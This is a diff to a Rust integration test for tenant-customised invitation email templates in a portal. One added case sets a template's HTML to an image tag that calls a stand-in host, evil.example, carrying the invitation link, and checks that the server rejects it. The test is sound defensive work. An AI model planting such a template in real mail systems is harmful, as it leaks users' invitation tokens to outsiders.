@@ -53,6 +53,18 @@ async fn a_tenants_own_template_is_checked_used_and_kept_to_itself() {
     // A name the kind does not give, and an unknown kind, are refused.
     let mut bad = own_invitation();
     bad["text"] = json!("{{ password_hash }}");
+    let mut leaky = own_invitation();
+    leaky["html"] = json!("<img src=\"https://evil.example/{{ link }}\">");
+    let res = app
+        .call(
+            reqwest::Method::PUT,
+            path,
+            Some(&boss.access_token),
+            Some(leaky),
+        )
+        .await;
+    assert_eq!(res.status(), 422, "the link may not leave the portal");
+    assert_eq!(problem(res).await["field"], "html");
     let res = app
         .call(
             reqwest::Method::PUT,
@@ -115,8 +127,8 @@ async fn a_tenants_own_template_is_checked_used_and_kept_to_itself() {
     let res = app
         .post_as(
             &boss.access_token,
-            "/api/users",
-            json!({"email": to, "display_name": "<b>Eve</b>", "role": "SUPPORT"}),
+            "/api/customers",
+            json!({"email": to, "name": "<b>Eve</b>", "country": "FR"}),
         )
         .await;
     assert_eq!(res.status(), 201);
@@ -130,11 +142,26 @@ async fn a_tenants_own_template_is_checked_used_and_kept_to_itself() {
         "{text}"
     );
     let html = message.body_html(0).unwrap();
-    assert!(html.contains("Dear &lt;b&gt;Eve&lt;&#x2f;b&gt;"), "{html}");
+    assert!(html.contains("Dear &lt;b&gt;Eve&lt;/b&gt;"), "{html}");
     assert!(
         html.contains("href=\"http://localhost:2271/invitation#token=mplk_"),
         "{html}"
     );
+
+    // A staff member's link never comes in a tenant's template.
+    let staff = format!("sam-{}@customer.test", uuid::Uuid::now_v7().simple());
+    let res = app
+        .post_as(
+            &boss.access_token,
+            "/api/users",
+            json!({"email": staff, "display_name": "Sam", "role": "SUPPORT"}),
+        )
+        .await;
+    assert_eq!(res.status(), 201);
+    inbox::run_mail_jobs(&app, &inbox::relay_mailer()).await;
+    let raw = inbox::messages(&staff, 1).await.remove(0);
+    let message = MessageParser::default().parse(&raw).unwrap();
+    assert_eq!(message.subject(), Some("Your account at brandco"));
 
     // Back to the built-in templates.
     let res = app
